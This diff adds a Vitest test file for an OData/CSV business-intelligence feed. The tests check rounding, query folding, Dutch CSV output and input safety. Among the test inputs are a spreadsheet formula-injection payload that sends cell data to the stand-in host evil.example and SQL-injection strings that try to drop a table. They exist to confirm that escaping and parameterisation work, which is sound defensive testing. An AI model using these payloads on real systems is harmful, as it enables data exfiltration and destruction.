@@ -1,0 +1,266 @@
+import { readFileSync } from 'node:fs';
+import type { AddressInfo } from 'node:net';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+import { eq, sql } from 'drizzle-orm';
+import { OData } from '@odata/client';
+import { createTestApp, type TestApp } from '../test/app.ts';
+import { bearer, createTenant, type Tenant } from '../test/fixtures.ts';
+import { seedTree } from '../test/projectFixtures.ts';
+import { parseCsdl } from '../test/csdl.ts';
+import { model, project } from '../db/schema/index.ts';
+import { reportData } from '../services/reportData.ts';
+import { REPORT_MODEL_COLUMNS, type ReportData, type ReportModelRow, type ReportPeriodRow } from '../../src/api/contract/reportData.ts';
+import type { ModelData } from '../../src/api/contract/modelData.ts';
+import { remapPeriodItems } from '../../src/formulas/periodRemap.ts';
+import type { BiLink, BiPassword } from '../../src/api/contract/biLink.ts';
+
+// The BI feed as Power BI and Excel use it (issue 25 items 9–11, issue 22 item 4; docs/bi-links.md): query
+// folding ($filter, $orderby with $skip/$top/$count) through a real OData client and as Power Query sends
+// it, money in cents and Edm.Decimal, CSV for Dutch Excel, and no formula in any CSV field.
+
+const example = JSON.parse(readFileSync(new URL('../../src/formulas/examples/worked-example.model.json', import.meta.url), 'utf8')) as ModelData;
+const quarterly = remapPeriodItems(example, { ...example, base_parameters: { ...example.base_parameters, phasing_period: 'Quarterly' } });
+/** Forty houses instead of ten: revenues above costs, so book values and results turn negative. */
+const profitable: ModelData = { ...quarterly, residential_construction: quarterly.residential_construction.map((r) => ({ ...r, amount: 40 })) };
+const EVIL_NUMBER = '=HYPERLINK("https://evil.example/?d="&A2,"Klik")';
+const EVIL_MODEL = '=1+1 Variant';
+/** Power Query's own headers on an OData feed request. */
+const POWER_QUERY = { 'odata-maxversion': '4.0', 'odata-version': '4.0', accept: 'application/json;odata.metadata=minimal' };
+
+let t: TestApp;
+let A: Tenant;
+let link: BiLink;
+let auth: string;
+/** The unfiltered feed (JSON at the link): what every folded query is checked against. */
+let feed: ReportData;
+let ids: number[];
+
+beforeAll(async () => {
+  t = await createTestApp();
+  A = await createTenant(t.db, 'bfq');
+  const north = await seedTree(t.db, A, { name: 'Plan Noord', roles: { [A.usr.id]: 'USR' } });
+  const harbour = await seedTree(t.db, A, { name: "Haven's kwartier", roles: { [A.usr.id]: 'USR' } });
+  await t.db.update(project).set({ number: EVIL_NUMBER }).where(eq(project.id, north.projectId));
+  const online = await t.db.insert(model).values([
+    { versionId: north.versionId, name: 'Grondexploitatie', modelPlatform: 'online', modelData: example },
+    { versionId: north.versionId, name: EVIL_MODEL, modelPlatform: 'online', modelData: quarterly },
+    { versionId: harbour.versionId, name: 'Havenkwartier', modelPlatform: 'online', modelData: profitable },
+  ]).returning();
+  ids = [...online.map((m) => m.id), north.modelId];
+  const res = await t.app.inject({ method: 'POST', url: '/api/bi/v1/report/', headers: await bearer(t.app, A.usr), payload: { description: 'Power BI', models: ids } });
+  link = res.json<BiLink>();
+  const p = await t.app.inject({ method: 'POST', url: `/api/bi/v1/report/${link.uuid}/password/`, headers: await bearer(t.app, A.usr) });
+  auth = `Basic ${Buffer.from(`grondslag:${p.json<BiPassword>().password}`).toString('base64')}`;
+  feed = (await get('')).json<ReportData>();
+  expect(feed.perioden.length, JSON.stringify(feed.rekenmodellen.map((r) => r.fout))).toBeGreaterThan(30);
+});
+afterAll(() => t.close());
+
+/** A GET of the feed at `suffix` (after the link); a second apart on the test clock, below the rate limit. */
+const get = (suffix: string, headers: Record<string, string> = {}) =>
+  t.clock.advance(1100) ?? t.app.inject({ method: 'GET', url: new URL(link.link).pathname + suffix, headers: { authorization: auth, ...headers } });
+const odata = async (query: string) => {
+  const res = await get(`odata/${query.replaceAll('$', '%24').replaceAll(' ', '%20').replaceAll("'", '%27')}`, POWER_QUERY);
+  return { status: res.statusCode, body: res.json(), headers: res.headers };
+};
+const byIds = (rows: { rekenmodel_id: number }[]) => rows.map((r) => r.rekenmodel_id);
+
+describe('money on the wire (issue 25 item 10)', () => {
+  it('amounts are rounded to cents in JSON, CSV and OData, and declared Edm.Decimal with Scale 2', async () => {
+    const raw = await reportData(t.app.ctx, A.clientId, ids);
+    const money = ['kosten', 'opbrengsten', 'rente', 'saldo'] as const;
+    const cents = (v: number | null) => (v === null ? null : Math.round(v * 100) / 100);
+    // The engine's figures carry more than cents (float noise): rounding is visible.
+    expect(raw.perioden.some((p) => money.some((k) => p[k] !== null && p[k] !== cents(p[k])))).toBe(true);
+    for (const [i, p] of raw.perioden.entries()) for (const k of money) expect(feed.perioden[i][k]).toBe(cents(p[k]));
+    for (const [i, m] of raw.rekenmodellen.entries()) {
+      for (const k of ['ew', 'ncw', 'verliesvoorziening', 'totale_kosten', 'totale_opbrengsten'] as const) expect(feed.rekenmodellen[i][k]).toBe(cents(m[k]));
+      expect(feed.rekenmodellen[i].poc).toBe(m.poc); // a fraction, not money
+    }
+    expect((await odata('Perioden')).body.value).toEqual(feed.perioden);
+
+    const meta = parseCsdl((await get('odata/$metadata')).body);
+    const types = meta.edmx.dataServices.schemas[0].entityTypes;
+    const prop = (type: string, name: string) => types.find((e) => e.name === type)!.properties.find((p) => p.name === name)!;
+    for (const k of money) expect([String(prop('Periode', k).type), String(prop('Periode', k).scale)]).toEqual(['Edm.Decimal', '2']);
+    expect([String(prop('Rekenmodel', 'ew').type), String(prop('Rekenmodel', 'ew').scale)]).toEqual(['Edm.Decimal', '2']);
+    expect(String(prop('Rekenmodel', 'poc').type)).toBe('Edm.Double');
+  });
+});
+
+describe('query folding with a real OData client (@odata/client, over HTTP)', () => {
+  let client: ReturnType<typeof OData.New4>;
+  beforeAll(async () => {
+    await t.app.listen({ port: 0, host: '127.0.0.1' });
+    const { port } = t.app.server.address() as AddressInfo;
+    client = OData.New4({
+      serviceEndpoint: `http://127.0.0.1:${port}${new URL(link.link).pathname}odata/`,
+      commonHeaders: { Authorization: auth },
+    });
+  });
+
+  it('$filter with and, comparisons and a value list; $orderby; $top/$skip; $count; $select', async () => {
+    const min = 100_000;
+    const chosen = ids.slice(1, 3);
+    const filter = client.newFilter().property('saldo').gt(min).property('rekenmodel_id').in(chosen);
+    const params = client.newParam().filter(filter).orderby([{ field: 'saldo', order: 'desc' }]).top(5).skip(2).select(['rekenmodel_id', 'periode', 'saldo']);
+    const rows = await client.getEntitySet<ReportPeriodRow>('Perioden').query(params);
+    const all = feed.perioden.filter((p) => p.saldo > min && chosen.includes(p.rekenmodel_id));
+    const sorted = [...all].sort((a, b) => b.saldo - a.saldo || feed.perioden.indexOf(a) - feed.perioden.indexOf(b));
+    expect(all.length).toBeGreaterThan(7);
+    expect(rows).toEqual(sorted.slice(2, 7).map((p) => ({ rekenmodel_id: p.rekenmodel_id, periode: p.periode, saldo: p.saldo })));
+    expect(await client.getEntitySet('Perioden').count(filter)).toBe(all.length);
+  });
+
+  it('an unsupported or wrong query is an OData error the client reports with the Dutch message', async () => {
+    const set = client.getEntitySet('Rekenmodellen');
+    await expect(set.query(client.newFilter().property('bestaatniet' as never).eq(1))).rejects.toThrow('Onbekende eigenschap in $filter: bestaatniet.');
+    await expect(set.query(client.newParam().filter('ew add 1 gt 0'))).rejects.toThrow('wordt niet ondersteund');
+  });
+});
+
+describe('query folding as Power Query sends it (raw requests)', () => {
+  const periods = (keep: (p: ReportPeriodRow) => boolean) => feed.perioden.filter(keep);
+  const models = (keep: (m: ReportModelRow) => boolean) => feed.rekenmodellen.filter(keep);
+
+  it('comparisons on numbers, dates, tijdstippen and text; and/or/not; null compared as OData says', async () => {
+    const [first] = feed.rekenmodellen;
+    const cases: [string, ReportPeriodRow[] | ReportModelRow[]][] = [
+      ['Perioden?$filter=kosten ge 1000 and opbrengsten eq 0', periods((p) => p.kosten >= 1000 && p.opbrengsten === 0)],
+      ['Perioden?$filter=saldo lt 0 or periode le 2', periods((p) => p.saldo < 0 || p.periode <= 2)],
+      ['Perioden?$filter=not (saldo gt 0)', periods((p) => !(p.saldo > 0))],
+      ['Perioden?$filter=startdatum ge 2025-01-01 and einddatum lt 2026-01-01', periods((p) => p.startdatum !== null && p.startdatum >= '2025-01-01' && p.einddatum! < '2026-01-01')],
+      ['Perioden?$filter=rente eq null', periods((p) => p.rente === null)],
+      ['Perioden?$filter=rente ne null and rente gt 1000.5', periods((p) => p.rente !== null && p.rente > 1000.5)],
+      ['Perioden?$filter=not (rente gt 0)', periods((p) => !(p.rente !== null && p.rente > 0))], // null gt 0 is false
+      [`Rekenmodellen?$filter=rekenmodel_id eq ${first.rekenmodel_id}`, [first]],
+      [`Rekenmodellen?$filter=laatst_gewijzigd le ${first.laatst_gewijzigd}`, models((m) => m.laatst_gewijzigd <= first.laatst_gewijzigd)],
+      ["Rekenmodellen?$filter=project eq 'Haven''s kwartier'", models((m) => m.project === "Haven's kwartier")],
+      ["Rekenmodellen?$filter=project gt 'I'", models((m) => m.project > 'I')],
+      ['Rekenmodellen?$filter=startdatum eq null', models((m) => m.startdatum === null)],
+      ['Rekenmodellen?$filter=ew gt totale_kosten', models((m) => m.ew !== null && m.totale_kosten !== null && m.ew > m.totale_kosten)],
+    ];
+    for (const [query, rows] of cases) {
+      const res = await odata(query);
+      expect(res.status, `${query}: ${JSON.stringify(res.body)}`).toBe(200);
+      expect(byIds(res.body.value), query).toEqual(byIds(rows));
+      expect(res.body.value, query).toEqual(rows);
+    }
+    expect(models((m) => m.startdatum === null).length).toBeGreaterThan(0); // the spreadsheet model: null is exercised
+  });
+
+  it('contains, startswith, endswith (case as written; tolower for Text.Contains with a comparer)', async () => {
+    for (const [query, rows] of [
+      ["Rekenmodellen?$filter=contains(rekenmodel,'Variant')", models((m) => m.rekenmodel.includes('Variant'))],
+      ["Rekenmodellen?$filter=startswith(project,'Plan') and not endswith(rekenmodel,'tie')", models((m) => m.project.startsWith('Plan') && !m.rekenmodel.endsWith('tie'))],
+      ["Rekenmodellen?$filter=contains(tolower(project),'haven')", models((m) => m.project.toLowerCase().includes('haven'))],
+      ["Rekenmodellen?$filter=contains(project,'haven')", models(() => false)],
+      ["Rekenmodellen?$filter=contains(projectnummer,'evil')", models((m) => m.projectnummer?.includes('evil') ?? false)],
+      ["Rekenmodellen?$filter=not contains(projectnummer,'evil')", models((m) => !m.projectnummer?.includes('evil'))],
+    ] as const) {
+      const res = await odata(query);
+      expect(res.status, JSON.stringify(res.body)).toBe(200);
+      expect(byIds(res.body.value), query).toEqual(byIds(rows));
+    }
+  });
+
+  it('$orderby on every column, both directions, nulls first ascending; ties keep the feed order; paging after sorting', async () => {
+    const compare = (a: unknown, b: unknown) => (a === b ? 0 : a === null ? -1 : b === null ? 1 : (a as number) < (b as number) ? -1 : 1);
+    for (const column of REPORT_MODEL_COLUMNS) {
+      for (const dir of ['asc', 'desc'] as const) {
+        const res = await odata(`Rekenmodellen?$orderby=${column} ${dir}&$select=rekenmodel_id`);
+        expect(res.status, JSON.stringify(res.body)).toBe(200);
+        const sign = dir === 'asc' ? 1 : -1;
+        const expected = [...feed.rekenmodellen].sort((a, b) => sign * compare(a[column], b[column]) || feed.rekenmodellen.indexOf(a) - feed.rekenmodellen.indexOf(b));
+        // Text is sorted by the database's collation; compare numbers and dates exactly, text as a set.
+        if (typeof feed.rekenmodellen.find((r) => r[column] !== null)?.[column] === 'string' && column !== 'startdatum' && column !== 'einddatum' && column !== 'ncw_datum' && column !== 'laatst_gewijzigd') {
+          expect(new Set(byIds(res.body.value)), column).toEqual(new Set(byIds(expected)));
+        } else {
+          expect(byIds(res.body.value), `${column} ${dir}`).toEqual(byIds(expected));
+        }
+      }
+    }
+    const paged = await odata('Perioden?$filter=kosten gt 0&$orderby=rekenmodel_id desc,kosten&$skip=3&$top=4&$count=true');
+    const all = feed.perioden.filter((p) => p.kosten > 0)
+      .sort((a, b) => b.rekenmodel_id - a.rekenmodel_id || a.kosten - b.kosten || feed.perioden.indexOf(a) - feed.perioden.indexOf(b));
+    expect(paged.body['@odata.count']).toBe(all.length);
+    expect(paged.body.value).toEqual(all.slice(3, 7));
+    expect(paged.headers['odata-version']).toBe('4.0');
+    expect(paged.headers['content-type']).toMatch(/^application\/json;odata\.metadata=minimal/);
+  });
+
+  it('refuses what it does not translate in the OData error shape, Dutch: 501 unsupported, 400 wrong', async () => {
+    for (const [query, status, message] of [
+      ['Rekenmodellen?$filter=ew add 1 gt 0', 501, /wordt niet ondersteund/],
+      ['Rekenmodellen?$filter=year(startdatum) eq 2024', 501, /De functie year in \$filter wordt niet ondersteund/],
+      ['Rekenmodellen?$filter=bestaatniet eq 1', 400, /Onbekende eigenschap in \$filter: bestaatniet/],
+      ['Rekenmodellen?$filter=project gt 5', 400, /tekst vergeleken met een getal/],
+      ['Rekenmodellen?$filter=startdatum ge 2024-02-30', 400, /Ongeldige waarde/],
+      ['Rekenmodellen?$filter=ew', 400, /geen voorwaarde/],
+      ['Rekenmodellen?$filter=ew gt', 400, /geen geldige OData-expressie/],
+      ["Rekenmodellen?$filter=contains(ew,'1')", 400, /contains verwacht tekst/],
+      ['Rekenmodellen?$orderby=bestaatniet', 400, /Onbekende eigenschap in \$orderby/],
+      ['Rekenmodellen?$orderby=ew sideways', 400, /geen geldige OData-expressie/],
+      [`Rekenmodellen?$filter=${'('.repeat(21)}ew gt 0${')'.repeat(21)}`, 400, /haakjes/],
+      [`Rekenmodellen?$filter=${Array.from({ length: 400 }, () => 'ew gt 0').join(' or ')}`, 400, /langer dan 4000 tekens/],
+    ] as const) {
+      const res = await odata(query);
+      expect(res.status, `${query}: ${JSON.stringify(res.body)}`).toBe(status);
+      expect(res.body.error.code).toBe(String(status));
+      expect(res.body.error.message, query).toMatch(message);
+    }
+  });
+
+  it('text in a query is only ever a value: quotes and SQL in literals and names change nothing', async () => {
+    const before = await t.db.execute(sql`SELECT count(*)::int AS n FROM bi_link`);
+    for (const query of [
+      "Rekenmodellen?$filter=project eq 'x'' OR 1=1; DROP TABLE bi_link; --'",
+      "Rekenmodellen?$filter=contains(project,'%') or startswith(project,'_')",
+    ]) {
+      const res = await odata(query);
+      expect(res.status, JSON.stringify(res.body)).toBe(200);
+      expect(res.body.value).toEqual([]);
+    }
+    expect((await odata('Rekenmodellen?$orderby=ew; DROP TABLE bi_link')).status).toBe(400);
+    expect((await odata('Rekenmodellen?$orderby=ew%26$filter=ew gt 0')).body.error.message).toMatch(/^\$orderby is geen geldige OData-expressie/);
+    expect((await odata('Rekenmodellen?$filter="ew" gt 0')).status).toBe(400);
+    expect((await t.db.execute(sql`SELECT count(*)::int AS n FROM bi_link`)).rows).toEqual(before.rows);
+  });
+});
+
+describe('CSV (issue 25 item 11, issue 22 item 4)', () => {
+  it('dialect=nl: byte order mark, semicolons, decimal comma; the default stays RFC 4180', async () => {
+    const nl = await get('?format=csv&set=perioden&dialect=nl');
+    expect(nl.statusCode).toBe(200);
+    expect(nl.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
+    const lines = nl.body.slice(1).split('\r\n');
+    expect(lines[0]).toBe('rekenmodel_id;project;rekenmodel;periode;label;startdatum;einddatum;kosten;opbrengsten;rente;saldo');
+    const p = feed.perioden.find((r) => !Number.isInteger(r.saldo))!;
+    const line = lines[feed.perioden.indexOf(p) + 1].split(';');
+    expect(line.at(-1)).toBe(String(p.saldo).replace('.', ','));
+    expect(line[5]).toBe(p.startdatum);
+    const plain = await get('?format=csv&set=perioden');
+    expect(plain.body.charCodeAt(0)).not.toBe(0xfeff);
+    expect(plain.body.split('\r\n')[0]).toContain('rekenmodel_id,project,');
+    const bad = await get('?format=csv&dialect=excel');
+    expect(bad.statusCode).toBe(400);
+    expect(bad.json().message).toBe('Kies dialect=nl of dialect=rfc4180.');
+  });
+
+  it('a project number or model name that is a formula is written as text, negative amounts stay numbers', async () => {
+    for (const dialect of ['rfc4180', 'nl']) {
+      const models = (await get(`?format=csv&dialect=${dialect}`)).body;
+      expect(models).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A2,""Klik"")"`);
+      expect(models).toContain(`'${EVIL_MODEL}`);
+      expect(models).not.toMatch(/(^|[,;])=/m);
+      const periods = (await get(`?format=csv&set=perioden&dialect=${dialect}`)).body;
+      expect(periods).toContain(`'${EVIL_MODEL}`);
+      const negative = feed.perioden.flatMap((r) => [r.kosten, r.opbrengsten, r.rente, r.saldo]).find((v) => v !== null && v < 0 && !Number.isInteger(v))!;
+      const text = dialect === 'nl' ? String(negative).replace('.', ',') : String(negative);
+      expect(periods).toMatch(new RegExp(`(^|[,;])${text.replace('.', '\\.')}([,;]|\\r\\n)`, 'm'));
+      expect(periods).not.toContain(`'${text}`);
+    }
+    // JSON and OData carry the values as they are: escaping is CSV's business.
+    expect(feed.rekenmodellen[0].projectnummer).toBe(EVIL_NUMBER);
+  });
+});
